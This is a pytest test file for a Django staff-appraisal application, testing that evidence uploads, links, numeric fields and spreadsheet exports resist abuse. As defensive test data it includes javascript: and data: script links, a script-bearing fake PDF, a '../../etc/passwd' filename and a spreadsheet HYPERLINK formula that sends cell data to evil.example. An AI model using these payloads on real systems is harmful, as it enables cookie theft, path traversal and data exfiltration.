"""Review fixes (issue 8): evidence links are web links only, evidence files are checked like transfer
documents, and amounts beyond the database column are bad input, not a server error."""

from decimal import Decimal
from pathlib import Path

import pytest
from django.conf import settings
from django.core.files.uploadedfile import SimpleUploadedFile
from rest_framework.test import APIClient

from core.models import AuditEvent
from kinerja import services
from kinerja.models import Indicator, TeamGoal
from tests.kinerja.helpers import agreed_skp

pytestmark = pytest.mark.django_db

PDF = b"%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n"


@pytest.fixture
def goal(org, period):
    return services.team_goal_create(
        period=period,
        agency=org.agency,
        actor=org.kadis.user,
        title="Uji KIR 500 kendaraan",
        target=Decimal("500"),
        unit_label="kendaraan",
    )


@pytest.mark.parametrize(
    "link",
    ["javascript:alert(document.cookie)", "JaVaScRiPt:alert(1)", "data:text/html,<script>x</script>"],
)
def test_a_script_link_posted_as_team_goal_evidence_on_the_page_is_refused_and_never_shown(
    org, period, goal, client, link
):
    client.force_login(org.kadis.user)
    response = client.post(
        f"/kinerja/target-tim/{goal.pk}/realisasi/", {"realised": "450", "evidence_url": link}, follow=True
    )
    page = response.content.decode()
    assert "Tautan bukti harus alamat web" in page
    goal.refresh_from_db()
    assert goal.evidence_url == "" and goal.realised is None
    assert 'href="javascript' not in page.lower() and 'href="data:' not in page.lower()
    assert not AuditEvent.objects.filter(action="team_goal.realise").exists()


def test_a_web_link_posted_as_team_goal_evidence_on_the_page_is_kept(org, period, goal, client):
    client.force_login(org.kadis.user)
    client.post(
        f"/kinerja/target-tim/{goal.pk}/realisasi/",
        {"realised": "450", "evidence_url": "https://drive.mannakota.go.id/bukti/kir"},
    )
    goal.refresh_from_db()
    assert (goal.realised, goal.evidence_url) == (Decimal("450"), "https://drive.mannakota.go.id/bukti/kir")
    assert AuditEvent.objects.filter(action="team_goal.realise", actor=org.kadis.user).count() == 1


def test_a_team_goal_target_beyond_the_column_is_a_message_on_the_page_not_a_server_error(
    org, period, client
):
    client.force_login(org.kadis.user)
    response = client.post(
        "/kinerja/target-tim/",
        {"agency": org.agency.pk, "title": "Uji emisi", "target": "1e20", "unit_label": "kendaraan"},
    )
    assert response.status_code == 200
    assert "Angka harus antara" in response.content.decode()
    assert not TeamGoal.objects.exists() and not AuditEvent.objects.exists()


def test_a_team_goal_realisation_beyond_the_column_is_refused_by_the_service(org, period, goal):
    from core.exceptions import DomainError

    with pytest.raises(DomainError) as refused:
        services.team_goal_realise(goal=goal, actor=org.kadis.user, realised=Decimal("1000000000000"))
    assert refused.value.field == "realised"
    assert not AuditEvent.objects.filter(action="team_goal.realise").exists()


def _indicator(org, period) -> Indicator:
    skp = agreed_skp(org.pegawai, period)
    return Indicator.objects.get(result_plan__appraisal=skp)


def _api(user) -> APIClient:
    client = APIClient()
    client.force_authenticate(user)
    return client


def test_an_evidence_file_that_is_not_a_pdf_or_image_by_content_is_refused_with_a_field_message(org, period):
    indicator = _indicator(org, period)
    fake = SimpleUploadedFile("bukti.pdf", b"<html><script>alert(1)</script></html>", "application/pdf")
    response = _api(org.pegawai.user).post(
        f"/api/v1/indicators/{indicator.pk}/realise/", {"realised": "90", "evidence_file": fake}
    )
    assert response.status_code == 400
    assert "evidence_file" in response.json()
    indicator.refresh_from_db()
    assert indicator.realised is None and not indicator.evidence_file
    assert not AuditEvent.objects.filter(action="appraisal.realise").exists()


def test_an_evidence_file_over_the_policy_size_is_refused(org, period):
    indicator = _indicator(org, period)
    policy = org.region.policy
    policy.max_upload_mb = 1
    policy.save()
    big = SimpleUploadedFile("bukti.pdf", PDF + b"0" * (1024 * 1024), "application/pdf")
    response = _api(org.pegawai.user).post(
        f"/api/v1/indicators/{indicator.pk}/realise/", {"realised": "90", "evidence_file": big}
    )
    assert response.status_code == 400
    assert "1 MB" in response.json()["evidence_file"][0]
    assert not AuditEvent.objects.filter(action="appraisal.realise").exists()


def test_a_real_pdf_is_stored_under_a_name_of_our_own_not_the_uploaders(org, period):
    indicator = _indicator(org, period)
    upload = SimpleUploadedFile("../../etc/passwd .pdf", PDF, "application/pdf")
    response = _api(org.pegawai.user).post(
        f"/api/v1/indicators/{indicator.pk}/realise/", {"realised": "90", "evidence_file": upload}
    )
    assert response.status_code == 200
    indicator.refresh_from_db()
    assert indicator.realised == Decimal("90")
    name = indicator.evidence_file.name
    assert name.startswith("kinerja/bukti/") and name.endswith(".pdf") and "passwd" not in name
    assert (Path(settings.MEDIA_ROOT) / name).read_bytes() == PDF
    assert AuditEvent.objects.filter(action="appraisal.realise", actor=org.pegawai.user).count() == 1


def test_an_evidence_file_is_removed_again_when_the_realisation_is_refused_after_it_was_written(
    org, period, monkeypatch
):
    indicator = _indicator(org, period)
    from kinerja.services import appraisals

    def refuse(**kwargs):
        raise RuntimeError("audit store down")

    monkeypatch.setattr(appraisals.audit, "record", refuse)
    with pytest.raises(RuntimeError):
        services.indicator_realise(
            indicator=indicator,
            actor=org.pegawai.user,
            realised=Decimal("90"),
            evidence_file=SimpleUploadedFile("bukti.pdf", PDF, "application/pdf"),
        )
    folder = Path(settings.MEDIA_ROOT) / "kinerja" / "bukti"
    assert not folder.exists() or not any(p.is_file() for p in folder.rglob("*"))
    indicator.refresh_from_db()
    assert indicator.realised is None and not indicator.evidence_file


def test_a_justification_typed_as_a_formula_is_exported_as_text_not_as_a_formula(client, org, period):
    """Formula injection: the appraiser's text must not run in the spreadsheet HR opens."""
    from io import BytesIO

    from openpyxl import load_workbook

    from tests.kinerja.helpers import REALISED_FOR, realise_all

    skp = agreed_skp(org.pegawai, period)
    realise_all(skp, REALISED_FOR["sesuai"])
    formula = '=HYPERLINK("http://evil.example/?"&A2,"klik")'
    services.appraisal_rate(
        appraisal=skp,
        actor=skp.appraiser.user,
        results_rating="di_atas",
        behaviour_rating="sesuai",
        results_justification=formula,
    )
    client.force_login(org.hr)
    response = client.get(f"/kinerja/periode/{period.pk}/ekspor.xlsx")
    sheet = load_workbook(BytesIO(response.content)).active
    header = [c.value for c in next(sheet.iter_rows(max_row=1))]
    cell = sheet.cell(row=2, column=header.index("Justifikasi") + 1)
    assert cell.value == formula
    assert cell.data_type == "s"


@pytest.mark.parametrize("plan", ["abc", "", "-1", "1.5"])
def test_deleting_an_rhk_with_a_forged_id_on_the_page_is_a_message_not_a_server_error(
    org, period, client, plan
):
    from kinerja.models import ResultPlan

    skp = services.appraisal_create(period=period, employee=org.pegawai, actor=org.pegawai.user)
    services.result_plan_add(
        appraisal=skp,
        actor=org.pegawai.user,
        description="Terlaksananya pengawasan angkutan umum",
        indicators=[
            {"aspect": "quantity", "description": "Trayek", "target": Decimal("10"), "unit_label": "trayek"}
        ],
    )
    client.force_login(org.pegawai.user)
    response = client.post(f"/kinerja/skp/{skp.pk}/rhk-hapus/", {"plan": plan}, follow=True)
    assert response.status_code == 200
    assert "RHK tidak dikenal." in response.content.decode()
    assert ResultPlan.objects.filter(appraisal=skp).count() == 1
    assert not AuditEvent.objects.filter(action="appraisal.plan_delete").exists()


def test_an_appraisal_whose_achievement_exceeds_the_column_can_still_be_rated(org, period):
    """A realisation typed 1,000,000 against a target of 100 is 1,000,000%: beyond the stored column
    (8 digits), which PostgreSQL refused with a server error when the appraiser rated."""
    MAX_AVERAGE_ACHIEVEMENT = Decimal("999999.99")

    skp = agreed_skp(org.pegawai, period)
    indicator = Indicator.objects.get(result_plan__appraisal=skp)
    services.indicator_realise(indicator=indicator, actor=org.pegawai.user, realised=Decimal("1000000"))
    services.appraisal_rate(
        appraisal=skp, actor=skp.appraiser.user, results_rating="di_atas", behaviour_rating="sesuai"
    )
    skp.refresh_from_db()
    assert skp.status == "rated" and skp.results_suggested == "di_atas"
    assert skp.average_achievement == MAX_AVERAGE_ACHIEVEMENT
    event = AuditEvent.objects.get(action="appraisal.rate")
    assert event.data["average_achievement"] == "1000000.00"  # the real figure stays in the audit trail


def test_an_evidence_file_is_served_to_the_employee_and_appraiser_and_to_no_colleague(org, period, client):
    indicator = _indicator(org, period)
    upload = SimpleUploadedFile("bukti.pdf", PDF, "application/pdf")
    assert (
        _api(org.pegawai.user)
        .post(f"/api/v1/indicators/{indicator.pk}/realise/", {"realised": "90", "evidence_file": upload})
        .status_code
        == 200
    )
    url = f"/kinerja/bukti/{indicator.pk}/"
    for user in (org.pegawai.user, org.atasan.user, org.hr):
        client.force_login(user)
        response = client.get(url)
        assert response.status_code == 200
        assert b"".join(response.streaming_content) == PDF
    for user in (org.rekan.user, org.pegawai_lain.user, org.atasan_lain.user):
        client.force_login(user)
        assert client.get(url).status_code == 404
    client.logout()
    assert client.get(url).status_code == 302  # to the login page
